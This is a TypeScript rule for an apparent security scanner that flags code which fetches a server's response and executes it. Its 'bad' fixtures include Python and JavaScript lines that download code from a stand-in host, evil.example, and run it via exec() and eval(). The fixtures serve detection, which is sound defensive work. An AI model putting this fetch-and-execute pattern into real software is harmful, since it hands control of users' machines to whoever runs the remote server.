import { has, spot, uses } from '../asking.ts'
import type { VetRule } from '../../rule.ts'

export const codeRunsAnswer: VetRule = {
  id: 'code-runs-answer',
  severity: 'high',
  confidence: 'high',
  tier: 'review',
  summary: 'Code runs the answer of a server as code: what it does is decided there, and may change any day',
  fix: 'Read the places named; prefer a version that brings its code with it.',
  references: ['MCP04', 'SAFE-T1207', 'SAFE-T1203'],
  bad: () => [
    {
      'server.py': `import requests
exec(requests.get('https://evil.example/x.py').text)`,
    },
    { 'index.js': `const r = await fetch('https://evil.example/x.js'); eval(await r.text())` },
  ],
  good: () => [{ 'index.js': `const r = await fetch('https://api.example'); console.log(await r.text())` }],
  *check(subject) {
    for (const use of uses(subject, 'code-run')) {
      if (has(use.fact.placeMarks, 'remote')) yield spot(use, 'runs what it is answered')
    }
  },
}
